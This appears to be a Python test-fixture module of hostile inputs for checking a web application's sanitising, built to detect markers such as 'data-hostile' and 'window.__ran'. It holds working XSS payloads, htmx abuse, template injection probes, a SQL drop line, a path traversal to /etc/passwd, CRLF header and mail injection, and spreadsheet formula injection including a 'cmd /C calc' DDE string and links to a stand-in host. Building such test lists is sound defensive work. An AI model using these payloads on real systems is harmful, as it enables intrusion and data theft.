"""Texts that someone hostile would type: each tries to become something else than a text.

What they make, if they succeed, is seen: an element or attribute `data-hostile`, `window.__ran`, a
dialog, a request to `/hostile` or to another host, a line in a header, a property in a calendar.
"""

RUN = "window.__ran=1"
HOST = "hostile.invalid"
_IMG = f"<img data-hostile src=x onerror={RUN}>"
_SCRIPT = f"<script data-hostile>{RUN}</script>"

ELEMENTS = {
    "script": _SCRIPT,
    "script from elsewhere": f"<script data-hostile src=//{HOST}/x.js></script>",
    "script in mixed case": "<ScRiPt data-hostile>alert(1)</sCrIpT>",
    "script from the same host": "<script data-hostile src=/hostile.js></script>",
    "image": _IMG,
    "svg": f"<svg data-hostile onload={RUN}>",
    "svg script": f"<svg><script data-hostile>{RUN}</script></svg>",
    "svg animation": f"<svg><animate data-hostile onbegin={RUN} attributeName=x dur=1s>",
    "svg use": '<svg><use data-hostile href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/>',
    "mathml": f'<math data-hostile><mtext><a xlink:href="javascript:{RUN}">x</a></math>',
    "mutation": f"<math><mtext><table><mglyph><style>{_IMG}",
    "noscript": f'<noscript data-hostile><p title="</noscript>{_IMG}">',
    "body": f"<body data-hostile onload={RUN} onpageshow={RUN}>",
    "details": f"<details data-hostile open ontoggle={RUN}>",
    "video": f"<video data-hostile><source onerror={RUN}></video>",
    "focus": f"<input data-hostile autofocus onfocus={RUN}>",
    "frame": f'<iframe data-hostile srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame by address": f"<iframe data-hostile src=javascript:parent.{RUN}></iframe>",
    "object": f"<object data-hostile data=//{HOST}/x><embed src=//{HOST}/x></object>",
    "form": f'<form data-hostile action=//{HOST}><button formaction="javascript:{RUN}">Ok</button>',
    "base": f"<base data-hostile href=//{HOST}/>",
    "refresh": f"<meta data-hostile http-equiv=refresh content='0;url=//{HOST}/'>",
    "link": f"<link data-hostile rel=stylesheet href=//{HOST}/x.css>",
    "style": f"<style data-hostile>@import url(//{HOST}/x.css);*{{display:none}}</style>",
    "style attribute": f'<p data-hostile style="background:url(//{HOST}/x);width:expression(1)">',
    "template": f"<template data-hostile>{_IMG}</template>",
    "plain text": "<plaintext data-hostile>",
    "clobbering": "<img data-hostile name=body><a id=flash data-hostile name=forms>",
    "popover": f"<div data-hostile popover onbeforetoggle={RUN} id=annonces>",
}
ADDRESSES = {
    "javascript": f"javascript:{RUN}//",
    "javascript in pieces": f"jav&#x09;ascript&colon;{RUN}",
    "javascript link": f'<a data-hostile href="javascript:{RUN}">Rejoindre</a>',
    "data address": f"data:text/html,{_SCRIPT}",
    "other host": f"//{HOST}/hostile",
}
HTMX = {
    "htmx get": '<div data-hostile hx-get="/hostile" hx-trigger="load"></div>',
    "htmx post": '<div data-hostile data-hx-post="/hostile" data-hx-trigger="revealed"></div>',
    "htmx every": '<i data-hostile hx-get="/hostile" hx-trigger="every 10ms, changed from:body">',
    "htmx on": f'<b data-hostile hx-on:click="{RUN}" hx-on::load="{RUN}" hx-on:htmx:load="{RUN}">',
    "htmx out of band": '<main data-hostile id="main" hx-swap-oob="true">Remplacé</main>',
    "htmx partial": '<hx-partial data-hostile hx-target="#main">Remplacé</hx-partial>',
    "htmx stream": '<p data-hostile hx-sse:connect="/hostile" sse-connect="/hostile">',
    "house stream": '<p data-hostile data-stream="/hostile" data-poll="1" data-focus>',
    "house draft": '<input data-hostile data-draft="/hostile" data-auto data-opens="main">',
}
WAYS_OUT = {
    "double quotes": f'" autofocus onfocus="{RUN}" data-hostile="',
    "single quotes": f"' autofocus onfocus='{RUN}' data-hostile='",
    "backticks": f"` autofocus onfocus=`{RUN}` data-hostile=`",
    "no quotes": f"x autofocus onfocus={RUN} data-hostile",
    "out of an attribute": f'">{_SCRIPT}',
    "out of a textarea": f"</textarea>{_SCRIPT}",
    "out of a title": f"</title></head>{_IMG}",
    "out of a script": f"</script>{_IMG}",
    "out of a list": f"</option></select></style>{_IMG}",
    "comment": f"<!--> --!>{_IMG} -->",
    "cdata": f"<![CDATA[{_IMG}]]><?x {_IMG}?>",
    "jinja": '{{7*7}}{% include "base.html" %}{{ config }}',
    "template literal": f"${{{RUN}}}#{{7*7}}<%= 7*7 %>",
    "json": f'\\u003cscript\\u003e";{RUN};//\\',
    "encoded twice": f"&lt;img data-hostile src=x onerror={RUN}&gt;",
    "entities": f"&#60img data-hostile src=x onerror={RUN}&#62",
    "another charset": f"+ADw-img data-hostile src=x onerror={RUN}+AD4-",
    "full width": f"＜img data-hostile src=x onerror={RUN}＞ ʺ＝＇",
    "polyglot": "jaVasCript:/*-/*`/*'/*\"/**/(oNcliCk=alert(1))//</stYle/</titLe/</teXtarEa/--!>"
    "<sVg/data-hostile/oNloAd=alert(1)//>",
    "sql": "'; DROP TABLE person; -- %_\\",
    "path": "../../etc/passwd%00.pdf",
    "nothing": "null undefined NaN None",
}
LINES = {
    "header": f"x\r\nSet-Cookie: hostile=1\r\n\r\n{_IMG}",
    "mail header": f"x\nBcc: hostile@{HOST}\nContent-Type: text/html",
    "calendar": 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-HOSTILE;CN="y:1',
    "line separators": f"x\u2028Bcc: hostile\u2029X-HOSTILE:1\u0085{RUN}",
    "formula": f'=HYPERLINK("https://{HOST}";"x")',
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)",
    "formula by tab": "\t=1+1",
    "full width formula": "＝1+1",
}
WRITING = {
    "right to left": "\u202edroW\u2066 عائشة \u202b\u202e",
    "zero width": "\u200b\u200cab\u200d\ufeff\u2060c",
    "very long word": "Anticonstitutionnellement" * 4,
    "wide word": "W" * 100,
    "combining": "Z" + "\u0335\u0321\u0353\u036f" * 3,
    "emoji": "👩🏽‍🚒🏳️‍🌈👨‍👩‍👧‍👦" * 3,
    "look-alike": "Раssеrеllеs аdmіn",  # Cyrillic letters
}
TEXTS = {**ELEMENTS, **ADDRESSES, **HTMX, **WAYS_OUT, **LINES, **WRITING}
HOSTILE = tuple(TEXTS.values())
# What every form refuses: no base can hold it, or no page can show it.
REFUSED = {
    "nul": f"nul\0{_IMG}",
    "control": f"\x1b[31m\x07{_IMG}",
    "combining flood": "Z" + "\u0335\u0321\u0353\u036f" * 20,
}


def starting(number: int, several: int = 1) -> str:
    """The text of this number, going round, and those that follow it."""
    return " ".join(HOSTILE[(number + n) % len(HOSTILE)] for n in range(several))
